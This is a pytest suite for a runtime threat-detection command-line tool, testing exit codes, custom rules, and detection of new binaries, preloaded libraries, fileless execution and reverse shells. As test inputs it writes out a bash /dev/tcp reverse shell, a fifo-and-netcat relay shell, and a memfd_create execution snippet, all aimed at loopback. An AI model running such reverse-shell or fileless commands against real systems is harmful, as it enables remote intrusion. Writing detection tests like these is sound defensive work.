"""`outrider watch` as a user without privilege has it: four of the five findings, and the command's own exit code."""

import contextlib
import json
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

OUTRIDER = [sys.executable, "-m", "outrider_cli.main", "watch"]
WITHOUT_PRIVILEGE = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--"]
"""Leaves no capability at all, as an ordinary user has none; the user id stays, so that files can be read."""

FOUND_WITHIN_S = 30.0
UNTIL_FOUND = "n=0; until [ -s {found} ] || [ $n -gt 600 ]; do sleep 0.05; n=$((n+1)); done"
"""Shell: wait until a finding is written down."""

MEMFD = """
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execve(f"/proc/self/fd/{fd}", ["true"], {})
"""


def found_in(tmp_path: Path) -> Path:
    """Where findings are written down, each as soon as it is found."""
    return tmp_path / "findings.json"


def watch(tmp_path: Path, *command: str, options=(), privileged: bool = False) -> tuple[int, list[dict], str]:
    """Exit code, findings and what was said on standard error."""
    if not privileged and shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is not installed")
    found = found_in(tmp_path)
    before = [] if privileged else WITHOUT_PRIVILEGE
    done = subprocess.run(
        [*before, *OUTRIDER, "--json", str(found), *options, "--", *command],
        capture_output=True,
        text=True,
        timeout=90,
        stdin=subprocess.DEVNULL,
    )
    findings = [json.loads(line) for line in found.read_text().splitlines()] if found.exists() else []
    return done.returncode, findings, done.stderr


def is_found(tmp_path: Path) -> bool:
    path = found_in(tmp_path)
    return path.exists() and path.stat().st_size > 0


def types(findings: list[dict]) -> list[str]:
    return [finding["type"] for finding in findings]


@pytest.fixture
def attacker(tmp_path):
    """Somebody who waits on loopback for a shell, types a command, and leaves when he was found."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            peer, _ = server.accept()
            with peer:
                peer.sendall(b"id\n")
                deadline_s = time.monotonic() + FOUND_WITHIN_S
                while not is_found(tmp_path) and time.monotonic() < deadline_s:
                    time.sleep(0.02)
                peer.sendall(b"exit\n")
                peer.settimeout(1.0)
                with contextlib.suppress(TimeoutError):  # a relay stays until its peer goes
                    while peer.recv(4096):
                        pass

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1]


def test_the_exit_code_is_the_commands(tmp_path):
    """0, another code, a signal, and a command that is not there, as a shell would say it."""
    assert watch(tmp_path, "true")[0] == 0
    assert watch(tmp_path, "sh", "-c", "exit 7")[0] == 7
    assert watch(tmp_path, "sh", "-c", "kill -TERM $$")[0] == 128 + 15
    assert watch(tmp_path, "/no/such/program")[0] == 127


def test_what_cannot_be_seen_is_said_at_the_start(tmp_path):
    """Without privilege there are no packets, and set-uid programs lose theirs: both are said."""
    _, _, said = watch(tmp_path, "true")
    assert "blind to network" in said
    assert "set-uid" in said


def test_how_many_rules_are_blind_is_said_at_the_start(tmp_path):
    """In one line with the rest of them; what nobody sees here is a question of names, of containers, of packets."""
    rules = tmp_path / "mine.yaml"
    rules.write_text(
        "- rule: Blind\n  desc: d\n  priority: NOTICE\n"
        "  condition: evt.type = execve and container.image.repository = x\n  output: o\n"
    )
    line = re.compile(
        r"^outrider: rules: (\d+) armed, (\d+) armed by substitution, (\d+) blind here, 0 off$", re.MULTILINE
    )
    (before,) = line.findall(watch(tmp_path, "true")[2])
    (after,) = line.findall(watch(tmp_path, "true", options=("--rules", str(rules)))[2])
    assert after == (*before[:2], str(int(before[2]) + 1))


def test_ordinary_work_is_quiet(tmp_path):
    """Pipes, subshells, interpreters and temporary files raise nothing."""
    script = "echo hi | tr a-z A-Z; (ls / | head -n 2); f=$(mktemp); echo x >$f; cat $f; rm $f; perl -e 'print 1'"
    code, findings, _ = watch(tmp_path, "sh", "-c", script)
    assert code == 0
    assert findings == []


def test_a_new_binary_is_found(tmp_path):
    """A copied program is a finding about the process that ran it, with its whole line of ancestors."""
    script = f"cp /bin/true {tmp_path}/x; {tmp_path}/x"
    code, findings, said = watch(tmp_path, "sh", "-c", script)
    assert code == 0
    assert types(findings) == ["Execution:Runtime/NewBinaryExecuted"]
    assert findings[0]["process"]["exe"] == f"{tmp_path}/x"
    assert [a["name"] for a in findings[0]["process"]["ancestry"]] == ["sh"]
    assert "NewBinaryExecuted" in said


def test_a_new_library_is_found(tmp_path):
    """A shared object copied and preloaded is found."""
    library = next(Path("/lib").glob("*/libz.so.1"), None) or next(Path("/usr/lib").glob("*/libz.so.1"))
    until = UNTIL_FOUND.format(found=found_in(tmp_path))
    script = f"cp -L {library} {tmp_path}/z.so && LD_PRELOAD={tmp_path}/z.so sleep 60 & {until}; kill $!"
    _, findings, _ = watch(tmp_path, "sh", "-c", script)
    assert types(findings) == ["Execution:Runtime/NewLibraryLoaded"]
    assert findings[0]["evidence"]["library.path"] == f"{tmp_path}/z.so"


def test_a_fileless_program_is_found(tmp_path):
    """A program executed from memory is found."""
    _, findings, _ = watch(tmp_path, sys.executable, "-c", MEMFD)
    assert types(findings) == ["DefenseEvasion:Runtime/FilelessExecution"]


def test_a_reverse_shell_is_found(tmp_path, attacker):
    """Bash on a connection is found without seeing a packet."""
    script = f"bash -i >& /dev/tcp/127.0.0.1/{attacker} 0>&1"
    _, findings, _ = watch(tmp_path, "bash", "-c", script)
    assert types(findings) == ["Execution:Runtime/ReverseShell"]
    assert findings[0]["evidence"]["stdio.remote"] == f"127.0.0.1:{attacker}"


def test_a_relayed_reverse_shell_is_found(tmp_path, attacker):
    """A fifo and netcat, without seeing a packet."""
    if shutil.which("nc.openbsd") is None:
        pytest.skip("nc.openbsd (netcat-openbsd) is not installed")
    fifo = tmp_path / "f"
    script = f"mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | nc.openbsd 127.0.0.1 {attacker} >{fifo}"
    _, findings, _ = watch(tmp_path, "bash", "-c", script)
    assert types(findings) == ["Execution:Runtime/ReverseShell"]
    assert findings[0]["evidence"]["stdio.tie"] == "pipe-through-relay"


def test_rules_of_ones_own_are_obeyed(tmp_path):
    """A user's rule file adds findings."""
    rules = tmp_path / "mine.yaml"
    rules.write_text(
        "- rule: Nobody Sleeps\n  desc: no sleeping\n  priority: NOTICE\n"
        "  condition: evt.type = execve and proc.name = sleep\n  output: slept (%proc.cmdline)\n"
    )
    _, findings, _ = watch(tmp_path, "sleep", "0.01", options=("--rules", str(rules)))
    assert [(f["rule"], f["description"]) for f in findings] == [("Nobody Sleeps", "slept (sleep 0.01)")]


def test_a_wrong_rule_is_refused_with_its_place(tmp_path):
    """File, line, column and the nearest name; the command is not started."""
    rules = tmp_path / "mine.yaml"
    rules.write_text("- rule: X\n  desc: x\n  priority: NOTICE\n  condition: proc.nmae = sleep\n  output: x\n")
    code, _, said = watch(tmp_path, "touch", str(tmp_path / "ran"), options=("--rules", str(rules)))
    assert code == 2
    assert "mine.yaml:4:14" in said
    assert "proc.name" in said
    assert not (tmp_path / "ran").exists()


def test_intel_of_ones_own_is_checked(tmp_path):
    """A list with a line that is no domain is refused with its place."""
    intel = tmp_path / "list.txt"
    intel.write_text("pool.example\nnot a domain\n")
    code, _, said = watch(tmp_path, "true", options=("--intel", str(intel)))
    assert code == 2
    assert "list.txt:2" in said


def test_findings_that_falcos_taker_did_not_get_are_told(tmp_path):
    """Nobody listens at the address: the last line says how many findings are missing there, and why."""
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))  # and never listens
        url = f"http://127.0.0.1:{nobody.getsockname()[1]}/"
        code, findings, said = watch(
            tmp_path,
            "sh",
            "-c",
            f"cp /bin/true {tmp_path}/new && {tmp_path}/new",
            options=("--falco", url),
            privileged=True,
        )
    assert code == 0
    assert types(findings) == ["Execution:Runtime/NewBinaryExecuted"]
    assert f"outrider: 1 finding could not be sent to {url}: [Errno 111] Connection refused" in said
